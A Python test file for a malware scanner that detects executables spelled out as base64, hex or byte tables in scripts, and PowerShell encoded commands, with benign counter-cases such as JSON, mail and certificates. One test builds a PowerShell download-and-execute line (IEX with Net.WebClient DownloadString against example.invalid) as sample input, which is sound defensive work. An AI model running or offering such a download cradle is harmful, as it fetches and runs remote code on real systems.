"""Programs spelled in scripts: found; the same in what carries files for others: noted."""

import base64

import pytest

from samples import builders as b
from samples.smuggling import pieces, spellings
from scanners.smuggling.spelled import SpelledScanner
from tests.scanners.smuggling.conftest import Look

PE = b.pe()
LETTERS = base64.b64encode(PE)
EMBEDDED, SCRIPT = "embedded.executable", "container.script"
PLAIN = b"$b = [Convert]::FromBase64String('" + LETTERS + b"')\n"
TEXTS = spellings(PE)


def command(text: str) -> bytes:
    return b"powershell -NoP -EncodedCommand " + base64.b64encode(text.encode("utf-16-le")) + b"\n"


@pytest.mark.parametrize("name", TEXTS)
def test_every_spelling(look: Look, name: str) -> None:
    codes, children = look(SpelledScanner(), TEXTS[name])
    assert codes == {EMBEDDED}
    assert [child[: len(PE)] for child in children] == ([] if name == "trusted.crt" else [PE])


def test_plain_base64_is_told_and_left_to_the_other_scanner(look: Look) -> None:
    assert look(SpelledScanner(), PLAIN) == ({EMBEDDED}, [])


def test_wide_texts_are_read_as_well(look: Look) -> None:
    assert look(SpelledScanner(), PLAIN.decode().encode("utf-16"))[0] == {EMBEDDED}


HONEST = {
    "field of an interface": (b'{"f": "' + LETTERS + b'"}', {EMBEDDED + "?"}),
    "field of markup": (b'<?xml version="1.0"?><f>' + LETTERS + b"</f>", {EMBEDDED + "?"}),
    "text without a script": (b"Here it is:\n" + LETTERS + b"\n", {EMBEDDED + "?"}),
    "source of a table": (
        b"x = {" + b",".join(b"0x%02x" % c for c in PE) + b"};",
        {EMBEDDED + "?"},
    ),
    "mail": (b"From: a\nTo: b\nMIME-Version: 1.0\nSubject: c\n\n" + LETTERS + b"\n", set()),
    "body in parts": (b"--x\nContent-Type: a/b\n\n" + LETTERS + b"\n--x--\n", set()),
    "a few letters": (b"[Convert]::FromBase64String('TVqQAAMAAAAEAAAA')" + b" " * 200, set()),
    "hex of other data": (b"x = '4d5a" + bytes(900).hex().encode() + b"'", set()),
    "numbers": (b"77,90,1,2,3\n" * 3000, set()),
    "certificate": (b"-----BEGIN CERTIFICATE-----\nMIIB" + LETTERS[4:] + b"\n", set()),
    "script without one": (b.script() * 9, set()),
    "binary": (PE, set()),
}


@pytest.mark.parametrize("case", HONEST)
def test_honest_texts(look: Look, case: str) -> None:
    text, expected = HONEST[case]
    assert look(SpelledScanner(), text)[0] == expected


def test_an_encoded_command(look: Look) -> None:
    fetch = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid')"
    codes, (child,) = look(SpelledScanner(), command(fetch))
    assert codes == {SCRIPT}
    assert child == fetch.encode()
    assert look(SpelledScanner(), command("Get-ChildItem -Path . -Recurse"))[0] == {SCRIPT + "?"}
    other = (
        b"tar -extract " + base64.b64encode(b"no wide text at all, but long enough") + b"\n" * 99
    )
    assert look(SpelledScanner(), other)[0] == set()


def test_coded_content_is_left_alone(look: Look) -> None:
    assert look(SpelledScanner(), PLAIN, codings=("gzip",)) == (set(), [])
    assert look(SpelledScanner(), PLAIN, declared_type="multipart/mixed") == (set(), [])


def test_one_text_of_many_programs_ends_soon(look: Look) -> None:
    split = pieces(LETTERS, 50, b"' + '")
    codes, children = look(SpelledScanner(), b"\n;; ".join([b"x = '" + split + b"'"] * 40))
    assert EMBEDDED + "?" in codes
    assert len(children) <= 16
